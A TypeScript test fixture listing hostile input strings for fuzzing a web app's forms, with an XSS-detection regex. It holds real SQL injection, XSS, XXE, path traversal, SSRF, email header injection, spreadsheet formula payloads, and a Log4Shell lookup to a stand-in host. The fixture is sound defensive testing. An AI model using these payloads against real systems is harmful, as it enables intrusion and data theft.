/**
 * Hostile text: what people (and scripts) type into names, emails, references and free text. Each
 * goes into every text field of every form and JSON route in tests/hostile/targets.ts.
 */
export type HostileText = { id: string; category: string; value: string };

const XSS_MARKER = 'joinder-xss';

const SQL = [
  "' OR '1'='1",
  "' OR 1=1--",
  "'; DROP TABLE users;--",
  '"; DROP TABLE claimants; --',
  "admin'--",
  "') UNION SELECT email, password_hash FROM users--",
  '1; SELECT pg_sleep(10)--',
  "'; COPY users TO PROGRAM 'id';--",
  "$$ || pg_read_file('/etc/passwd') || $$",
  "E'\\x27; DELETE FROM audit_log; --",
  "%' AND 1=(SELECT COUNT(*) FROM pg_user)--",
  "\\'; TRUNCATE audit_log; --",
  "1' AND SLEEP(5)#",
  "'||(SELECT version())||'",
  "');ALTER TABLE audit_log DISABLE TRIGGER ALL;--",
];

const SCRIPT = [
  `<script>alert("${XSS_MARKER}")</script>`,
  `"><img src=x onerror=alert("${XSS_MARKER}")>`,
  `'><svg/onload=alert("${XSS_MARKER}")>`,
  'javascript:alert(document.cookie)',
  `</textarea><script>alert("${XSS_MARKER}")</script>`,
  `</title><script>alert("${XSS_MARKER}")</script>`,
  `<iframe srcdoc="<script>alert('${XSS_MARKER}')</script>">`,
  "{{constructor.constructor('alert(1)')()}}",
  '${7*7}#{7*7}{{7*7}}',
  `<a href="javascript:alert('${XSS_MARKER}')">click</a>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--#exec cmd="/bin/cat /etc/passwd"-->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

const LAYOUT = [
  'W'.repeat(300),
  '홍'.repeat(120),
  '가나다라마바사아자차카타파하'.repeat(20),
  'Z\u0351\u0352\u0357\u0358\u035b\u0310\u0311\u0312'.repeat(30),
  'Kim\nLee\r\nPark',
  'tab\there\tand\tthere',
  'null\u0000byte',
  'bell\u0007backspace\u0008formfeed\u000c',
  '\ud800 lone surrogate',
  '👨‍👩‍👧‍👦👨‍👩‍👧‍👦👨‍👩‍👧‍👦 family',
  '🏳️‍🌈🇰🇷🇺🇸',
  '(Hong) Tj ET BT /F1 99 Tf (pwned) Tj',
  '\\) Tj /JavaScript << /JS (app.alert(1)) >>',
  '%PDF-1.7 endstream endobj trailer',
  '   leading and trailing spaces   ',
  '',
  ' ',
  '\u3000\u3000',
  '.',
  '-',
  'Ｈｏｎｇ　Ｇｉｌｄｏｎｇ',
  'ｈｏｎｇ＠ｅｘａｍｐｌｅ．ｃｏｍ',
  'ㅎㄱㄷ',
  '홍길동'.normalize('NFD'),
  'A'.repeat(10_000),
  '가'.repeat(5_000),
  'x'.repeat(100_000),
];

const BIDI_AND_INVISIBLE = [
  '\u202Egnp.exe',
  'abc\u202Efdp.exe',
  'محمد عبد الله',
  'שלום עליכם',
  '\u200F\u200Eمرحبا Hong',
  '\u2066isolated\u2069\u2067rtl\u2069',
  'Hong\u200BGil\u200Cdong\u200D',
  '\uFEFFHong',
  '홍\u200B길\u200B동',
  '\u2028line\u2029paragraph',
  '\u00AD\u034F\u061C\u180E soft',
  'a\u0300\u0301\u0302\u0303\u0304',
  '洪吉童',
  "O'Brien-Smith",
  'ﷺ𒐫ẞ',
  '\u0E01\u0E34\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D',
];

const EMAILS = [
  'аdmin@joinder.test',
  'admin@joinder.tеst',
  'admin@joinder.test.',
  'ADMIN@JOINDER.TEST',
  'admin+tag@joinder.test',
  'ａｄｍｉｎ@joinder.test',
  'admin@joinder。test',
  '"admin"@joinder.test',
  'admin@[127.0.0.1]',
  'admin\u200B@joinder.test',
  'a@b',
  '@joinder.test',
  'admin@',
  'admin@@joinder.test',
  `${'a'.repeat(300)}@joinder.test`,
  `admin@${'b'.repeat(250)}.test`,
  'victim@joinder.test\r\nBcc: everyone@joinder.test',
  'victim@joinder.test%0d%0aBcc:everyone@joinder.test',
  'admin@xn--jinder-fta.test',
  'admin@joinder.test<script>',
  '"<script>"@joinder.test',
  'admin@localhost',
  'user name@joinder.test',
  '홍길동@한국.kr',
  'admin@joinder.test,other@joinder.test',
];

const NUMBERS_AND_FORMATS = [
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '9007199254740993',
  '0x10',
  '１２３',
  '%s%s%s%s%n',
  '{0}{1}',
  '{name, plural, other {#}}',
  "{count, select, other {x}} '{",
  'true',
  'null',
  'undefined',
  '[object Object]',
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'C:\\Windows\\System32',
  '/dev/zero',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '900101-1234567',
  '%00',
  '\\x00\\u0000',
  '${jndi:ldap://evil.example/a}',
  '=HYPERLINK("https://evil.example","click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
];

function named(category: string, values: string[]): HostileText[] {
  return values.map((value, index) => ({ id: `${category}-${String(index + 1).padStart(2, '0')}`, category, value }));
}

export const HOSTILE_TEXTS: HostileText[] = [
  ...named('sql', SQL),
  ...named('script', SCRIPT),
  ...named('layout', LAYOUT),
  ...named('bidi', BIDI_AND_INVISIBLE),
  ...named('email', EMAILS),
  ...named('format', NUMBERS_AND_FORMATS),
];

/** A response that is HTML must never carry this unescaped: React escapes everything it renders. */
export const UNESCAPED_XSS = new RegExp(
  `<script>alert\\("${XSS_MARKER}"\\)|<img src=x onerror=alert\\("${XSS_MARKER}"\\)|<svg/onload=alert\\("${XSS_MARKER}"\\)`,
);

/**
 * A sample of the texts for fields that take a choice, a number, a date or an id (their parser
 * refuses anything else before it goes further): the first three of each category and every text
 * that is extreme in itself (empty, a NUL, a lone surrogate, a very long one, a header injection,
 * a resident registration number, a spreadsheet formula).
 */
export const SAMPLE_TEXTS: HostileText[] = HOSTILE_TEXTS.filter((text, index) => {
  const isFirstOfCategory = HOSTILE_TEXTS.findIndex((other) => other.category === text.category) > index - 3;
  const isExtreme =
    text.value.trim() === '' ||
    text.value.length > 5_000 ||
    /\u0000|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(text.value);
  const isTricky = text.value.includes('\r\n') || /^\d{6}-\d{7}$/.test(text.value) || text.value.startsWith('=');
  return isFirstOfCategory || isExtreme || isTricky;
});
